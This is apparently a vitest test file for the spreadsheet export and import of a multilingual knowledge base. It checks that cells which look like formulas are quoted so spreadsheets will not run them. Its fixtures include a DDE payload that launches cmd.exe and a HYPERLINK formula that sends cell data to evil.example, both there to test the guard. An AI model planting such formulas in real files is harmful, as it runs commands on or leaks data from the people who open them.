import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { COLUMNS, exportCsv, guardCell, planImport, readCsv, unguardCell } from '../../src/admin/spreadsheet.js';
import { exportXlsx, readXlsx } from '../../src/admin/spreadsheet-xlsx.js';
import { loadKnowledgeBase } from '../../src/knowledge/load.js';
import type { KnowledgeEntry } from '../../src/knowledge/schema.js';
import { LANGUAGES } from '../../src/languages.js';
import { shippedKnowledge } from '../support/engine.js';
import { KNOWLEDGE_DIR } from '../support/paths.js';

/** The classic DDE payload: Excel asks to start cmd.exe if this cell is read as a formula. */
const DDE = "=cmd|' /C calc'!A0";
/** Cells a spreadsheet would run as a formula, and texts that look like the guard itself. */
const FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click for help")', DDE, '+359 2 939 47 74', '- first\n- second', '@SUM(A1:A9)', '\tindented', '\rreturn', '-1', '\uFF1D1+1'];
const QUOTES = ["'", "''", "'=1+1", "''- twice", "'plain quote", "'", "it's fine", ''];

describe('the spreadsheet formula guard', () => {
  it('puts a quote in front of every cell Excel or LibreOffice would run as a formula, and nothing else', () => {
    for (const text of FORMULAS) expect(guardCell(text)).toBe(`'${text}`);
    for (const text of ['plain text', 'سلام', 'Здравей', "it's fine", "'plain quote", '1 = 1', '']) expect(guardCell(text)).toBe(text);
  });

  it('takes away exactly the quote it added: every text survives the guard unchanged', () => {
    for (const text of [...FORMULAS, ...QUOTES, 'plain', '- a Markdown list\n- of two']) expect(unguardCell(guardCell(text))).toBe(text);
    // A translator's own leading quote is text, not a guard.
    expect(unguardCell("'plain quote")).toBe("'plain quote");
  });

  it('writes no cell of the CSV that starts like a formula, and reading the CSV back changes no entry', async () => {
    const knowledge = await shippedKnowledge();
    const edited = [...knowledge.entries.values()].map((entry) => structuredClone(entry));
    const cost = edited.find((e) => e.id === 'avrr-cost')!;
    cost.languages.en.answer = '- first item\n- second item\n';
    cost.languages.en.variants = [FORMULAS[0]!, ...cost.languages.en.variants];
    cost.languages.bg.answer = '+ плюс в началото\n';
    cost.languages.fa.answer = "'=1+1 is not a formula either\n";
    const csv = exportCsv(edited);
    const cells = (parse(csv, { bom: true }) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'${cost.languages.en.variants.join('\n')}`);
    expect(cells).toContain("'- first item\n- second item");
    expect(cells).toContain("''=1+1 is not a formula either");

    const plan = planImport(readCsv(csv), new Map(edited.map((e) => [e.id, e])));
    expect(plan.bad).toEqual([]);
    expect(plan.changes).toEqual([]);
    expect(plan.rows).toBe(cells.length / COLUMNS.length - 1);
  });
});

describe('the CSV export (RFC 4180)', () => {
  const shippedEntries = async () => [...(await loadKnowledgeBase(KNOWLEDGE_DIR)).entries.values()];
  /** A cell as RFC 4180 writes it quoted: in double quotes, each quote inside doubled. */
  const quoted = (cell: string) => `"${cell.replace(/"/g, '""')}"`;

  it('quotes every cell of the shipped knowledge base that holds a line break', async () => {
    const entries = await shippedEntries();
    const csv = exportCsv(entries);
    const multiLine = (parse(csv, { bom: true }) as string[][]).flat().filter((cell) => /[\r\n]/.test(cell));
    // Every Arabic, Farsi, Pashto and Urdu row among them: their variants are one per line.
    expect(multiLine.length).toBeGreaterThan(entries.length * 4);
    for (const cell of multiLine) expect(csv.includes(quoted(cell)), cell.slice(0, 60)).toBe(true);
  });

  it('is read by a standard reader as one row per entry and language, whichever line ending it takes for the end of a row', async () => {
    const entries = await shippedEntries();
    const csv = exportCsv(entries);
    // A reader that ends a row at CRLF, at a bare LF or at a bare CR, as spreadsheet programs do.
    for (const record_delimiter of [undefined, ['\n', '\r\n', '\r']]) {
      const rows = parse(csv, { bom: true, record_delimiter, relax_column_count: true }) as string[][];
      expect(rows, String(record_delimiter)).toHaveLength(entries.length * LANGUAGES.length + 1);
      expect(new Set(rows.map((r) => r.length))).toEqual(new Set([COLUMNS.length]));
    }
  });

  it('reads back the shipped knowledge base, a DDE formula and a Markdown list answer unchanged, from the CSV and from the workbook', async () => {
    const entries = (await shippedEntries()).map((entry) => structuredClone(entry));
    const cost = entries.find((e) => e.id === 'avrr-cost')!;
    cost.languages.en.variants = [DDE, ...cost.languages.en.variants];
    cost.languages.en.question = `${DDE} how much`;
    cost.languages.en.answer = '- a bullet that starts the answer\n- and a second one\n';
    const current = new Map(entries.map((e) => [e.id, e]));

    const csv = exportCsv(entries);
    expect(csv).toContain(quoted(`'${cost.languages.en.variants.join('\n')}`));
    expect(csv).toContain(`,'${DDE} how much,`);
    const workbook = await readXlsx(await exportXlsx(entries));
    if ('refused' in workbook) throw new Error(workbook.refused);
    for (const sheet of [readCsv(csv), workbook]) {
      const plan = planImport(sheet, current);
      expect(plan.bad).toEqual([]);
      expect(plan.changes).toEqual([]);
      expect(plan.rows).toBe(entries.length * LANGUAGES.length);
    }
    // Changed in the spreadsheet, the cell is imported as written, without the guard.
    const rows = parse(csv, { bom: true }) as string[][];
    const at = rows.findIndex((r) => r[0] === 'avrr-cost' && r[1] === 'en');
    rows[at]![COLUMNS.indexOf('answer')] = "'- a bullet that starts the answer\n- and a changed second one";
    const plan = planImport(readCsv(stringify(rows)), current);
    expect(plan.changes).toEqual([{ row: at + 1, id: 'avrr-cost', lang: 'en', fields: ['answer'] }]);
    expect((plan.edited.get('avrr-cost') as KnowledgeEntry).languages.en.answer).toBe('- a bullet that starts the answer\n- and a changed second one\n');
  });
});
